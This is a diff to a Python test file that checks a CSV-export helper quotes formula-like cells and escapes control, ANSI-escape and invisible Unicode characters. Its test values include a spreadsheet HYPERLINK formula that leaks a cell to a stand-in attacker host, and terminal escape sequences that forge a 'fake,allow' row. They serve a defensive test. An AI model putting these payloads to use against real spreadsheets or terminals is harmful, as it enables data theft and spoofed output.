@@ -9,10 +9,31 @@ from trustgate.report._common import spreadsheet_cell
 
 @pytest.mark.parametrize(
     "value",
-    ['=HYPERLINK("http://attacker.example/?x="&B2,"open")', "+1", "-2+3", "@SUM(1+1)", "\tx", "\rx"],
+    ['=HYPERLINK("http://attacker.example/?x="&B2,"open")', "+1", "-2+3", "@SUM(1+1)"],
 )
 def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(value: str) -> None:
     assert spreadsheet_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(("value", "cell"), [("\tx", "'\\x09x"), ("\rx", "'\\x0dx")])
+def test_a_cell_starting_with_a_tab_or_cr_starts_with_a_quote_and_shows_it_escaped(
+    value: str, cell: str
+) -> None:
+    assert spreadsheet_cell(value) == cell
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("web\r\x1b[2K1,fake,allow\x1b[8m", "web\\x0d\\x1b[2K1,fake,allow\\x1b[8m"),
+        ("web\nverdict allow", "web\\x0averdict allow"),
+        ("pro\u200bd", "pro\\u200bd"),
+        ("a\u202eb", "a\\u202eb"),
+    ],
+)
+def test_control_and_invisible_characters_in_a_cell_are_shown_as_escapes(value: str, cell: str) -> None:
+    """CSV printed on a terminal (or `cat`) must not be repainted by ESC or CR, nor a row split."""
+    assert spreadsheet_cell(value) == cell
 
 
 @pytest.mark.parametrize(
